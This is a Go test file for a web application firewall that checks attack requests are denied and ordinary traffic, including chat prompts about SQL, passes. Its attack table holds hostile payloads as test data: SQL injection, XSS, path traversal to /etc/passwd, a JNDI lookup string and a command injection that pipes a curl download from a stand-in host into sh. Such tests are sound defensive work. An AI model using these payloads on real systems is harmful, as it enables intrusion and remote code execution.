package waf

import (
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
)

// Compiling the CRS takes about a second, so each configuration the tests
// need is compiled once per test binary, on first use.
type lazyWAF struct {
	once sync.Once
	opts Options
	w    *WAF
	err  error
}

func (l *lazyWAF) get(tb testing.TB) *WAF {
	tb.Helper()
	l.once.Do(func() {
		o := l.opts
		o.Logger = slog.New(slog.DiscardHandler)
		l.w, l.err = New(o)
	})
	if l.err != nil {
		tb.Fatalf("New(%+v): %v", l.opts, l.err)
	}
	return l.w
}

var (
	// baseWAF is the configuration an LLM route would use: every group,
	// paranoia 1, JSON parsed.
	baseWAF = &lazyWAF{opts: Options{ParseJSON: true}}
	// tunedWAF is baseWAF with one rule disabled and targets excluded.
	tunedWAF = &lazyWAF{opts: Options{
		ParseJSON:      true,
		DisabledRules:  []int{942100},
		ExcludeHeaders: []string{"Referer"},
		ExcludeCookies: []string{"prefs"},
		ExcludeArgs:    []string{"note", "json.messages.*.content"},
	}}
)

// req builds a request the way net/http's server hands it to a handler.
type req struct {
	method, target, body, contentType, userAgent string
	header                                       http.Header
}

func (c req) build(tb testing.TB) *http.Request {
	tb.Helper()
	method := c.method
	if method == "" {
		method = http.MethodGet
	}
	u, err := url.ParseRequestURI(c.target)
	if err != nil {
		// Targets Go's parser refuses are still sent raw: keep the path.
		u = &url.URL{Path: "/", RawQuery: strings.TrimPrefix(c.target, "/?")}
	}
	r := &http.Request{
		Method: method, URL: u, RequestURI: c.target, Proto: "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1,
		Host: "app.example.com", RemoteAddr: "192.0.2.10:51234", Header: http.Header{},
		Body: http.NoBody,
	}
	for k, vs := range c.header {
		r.Header[k] = vs
	}
	ua := c.userAgent
	if ua == "" {
		ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
	}
	r.Header.Set("User-Agent", ua)
	r.Header.Set("Accept", "*/*")
	if c.body != "" {
		r.Body = io.NopCloser(strings.NewReader(c.body))
		r.ContentLength = int64(len(c.body))
		r.Header.Set("Content-Length", itoa(len(c.body)))
		ct := c.contentType
		if ct == "" {
			ct = "application/json"
		}
		r.Header.Set("Content-Type", ct)
	}
	return r
}

func itoa(n int) string { b, _ := json.Marshal(n); return string(b) }

// chatBody is an OpenAI-style chat request whose last message is prompt.
func chatBody(prompt string) string {
	b, _ := json.Marshal(map[string]any{
		"model":  "gpt-4o",
		"stream": true,
		"messages": []map[string]string{
			{"role": "system", "content": "You are a helpful assistant for the data team."},
			{"role": "user", "content": prompt},
		},
	})
	return string(b)
}

func inspect(tb testing.TB, w *WAF, c req) Verdict {
	tb.Helper()
	v, err := w.Inspect(c.build(tb))
	if err != nil {
		tb.Fatalf("Inspect(%s %s): %v", c.method, c.target, err)
	}
	return v
}

// hasRuleIn reports whether ids holds a rule of the CRS file numbered file
// (942 for SQL injection) or the id itself.
func hasRuleIn(ids []int, file int) bool {
	for _, id := range ids {
		if id/1000 == file || id == file {
			return true
		}
	}
	return false
}

func TestInspectBlocksAttacks(t *testing.T) {
	w := baseWAF.get(t)
	tests := []struct {
		name string
		req  req
		file int // a rule from this CRS file (or this rule id) must be named
	}{
		{"sqli_in_query_blocked", req{target: "/search?q=1%27%20OR%20%271%27%3D%271"}, 942},
		{"sqli_union_in_query_blocked", req{target: "/search?q=1%20UNION%20SELECT%20password%20FROM%20users--"}, 942},
		{"sqli_in_json_body_blocked", req{method: "POST", target: "/api/search", body: `{"filter":{"name":"x' OR '1'='1"}}`}, 942},
		{"sqli_in_form_body_blocked", req{method: "POST", target: "/login", body: "user=admin%27--&pass=x", contentType: "application/x-www-form-urlencoded"}, 942},
		{"sqli_in_referer_header_blocked", req{target: "/", header: http.Header{"Referer": {"1' OR '1'='1"}}}, 942},
		{"xss_in_query_blocked", req{target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"}, 941},
		{"xss_in_cookie_blocked", req{target: "/", header: http.Header{"Cookie": {"prefs=<script>alert(1)</script>"}}}, 941},
		{"lfi_path_traversal_blocked", req{target: "/download?file=../../etc/passwd"}, 930},
		{"lfi_encoded_path_traversal_blocked", req{target: "/download?file=..%2f..%2f..%2fetc%2fpasswd"}, 930},
		{"rfi_blocked", req{target: "/page?include=http://203.0.113.9/shell.txt?"}, 931},
		{"rce_blocked", req{target: "/ping?host=127.0.0.1;cat%20/etc/passwd"}, 932},
		{"rce_in_json_body_blocked", req{method: "POST", target: "/api/run", body: `{"host":"127.0.0.1; curl http://203.0.113.9/x | sh"}`}, 932},
		{"scanner_user_agent_blocked", req{target: "/", userAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)"}, 913},
		{"php_injection_blocked", req{target: "/?x=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E"}, 933},
		{"java_deserialization_blocked", req{target: "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D"}, 944},
		{"nodejs_prototype_pollution_blocked", req{target: "/?__proto__%5Badmin%5D=1"}, 934},
		{"session_fixation_blocked", req{target: "/?x=%3Cmeta%20http-equiv%3D%22Set-Cookie%22%20content%3D%22PHPSESSID%3Dabc%22%3E"}, 943},
		{"protocol_attack_header_injection_blocked", req{target: "/?x=a%0d%0aSet-Cookie:%20sid=evil"}, 921},
		{"nul_byte_in_query_blocked", req{target: "/?q=a%00b"}, 920},
		{"malformed_json_body_denied", req{method: "POST", target: "/api", body: `{"a": [1, 2`}, 200002},
		{"invalid_percent_encoding_in_query_blocked", req{target: "/?q=%zz"}, 200008},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := inspect(t, w, tc.req)
			if !v.Matched {
				t.Fatalf("not matched: %+v", v)
			}
			if !hasRuleIn(v.RuleIDs, tc.file) {
				t.Errorf("RuleIDs %v name no rule of %d", v.RuleIDs, tc.file)
			}
			if v.Message == "" {
				t.Error("empty message")
			}
		})
	}
}

func TestInspectInvalidUTF8(t *testing.T) {
	w := baseWAF.get(t)
	tests := []struct {
		name string
		req  req
		want int
	}{
		{"invalid_utf8", req{target: "/search?q=%ff%fe"}, 200004},
		{"invalid_utf8_overlong_slash_in_path", req{target: "/files/%c0%af"}, 200004},
		{"invalid_utf8_in_arg_name", req{target: "/?%ff=1"}, 200004},
		{"invalid_utf8_in_json_body", req{method: "POST", target: "/api", body: "{\"q\":\"caf\xe9\"}"}, 200005},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v := inspect(t, w, tc.req)
			if !v.Matched || !hasRuleIn(v.RuleIDs, tc.want) {
				t.Fatalf("got %+v, want a deny naming rule %d", v, tc.want)
			}
			if v.Message != "WAF found an invalid encoding in the request" {
				t.Errorf("message %q", v.Message)
			}
		})
	}
	t.Run("valid_utf8_passes", func(t *testing.T) {
		for _, target := range []string{"/search?q=caf%C3%A9", "/search?q=%E9%96%A2%E6%89%80", "/%E9%96%A2%E6%89%80"} {
			if v := inspect(t, w, req{target: target}); v.Matched {
				t.Errorf("%s: %+v", target, v)
			}
		}
	})
}

func TestInspectLetsOrdinaryTrafficThrough(t *testing.T) {
	w := baseWAF.get(t)
	tests := []struct {
		name string
		req  req
	}{
		{"chat_prompt_about_sql_not_blocked", req{method: "POST", target: "/v1/chat/completions",
			body: chatBody("Can you explain what this query does: SELECT name FROM users WHERE id = 1? Why would an index on id make it faster?")}},
		{"chat_prompt_sql_with_quoted_literal_not_blocked", req{method: "POST", target: "/v1/chat/completions",
			body: chatBody("How do I write SELECT * FROM users WHERE name = 'alice' in Postgres, and is it case sensitive?")}},
		{"chat_prompt_about_drop_table_not_blocked", req{method: "POST", target: "/v1/chat/completions",
			body: chatBody("Why does DROP TABLE users; need admin rights?")}},
		{"chat_prompt_japanese_not_blocked", req{method: "POST", target: "/api/chat",
			body: chatBody("関所について三行で説明してください。")}},
		{"plain_get", req{target: "/"}},
		{"search_query", req{target: "/search?q=how+to+join+two+tables&page=2"}},
		{"dify_style_json", req{method: "POST", target: "/v1/chat-messages",
			body: `{"inputs":{},"query":"What are the specs of the iPhone 13 Pro Max?","response_mode":"streaming","conversation_id":"","user":"abc-123"}`}},
		{"form_post", req{method: "POST", target: "/login", body: "username=alice&password=correct+horse+battery+staple", contentType: "application/x-www-form-urlencoded"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if v := inspect(t, w, tc.req); v.Matched {
				t.Fatalf("ordinary request denied: %+v", v)
			}
		})
	}
}
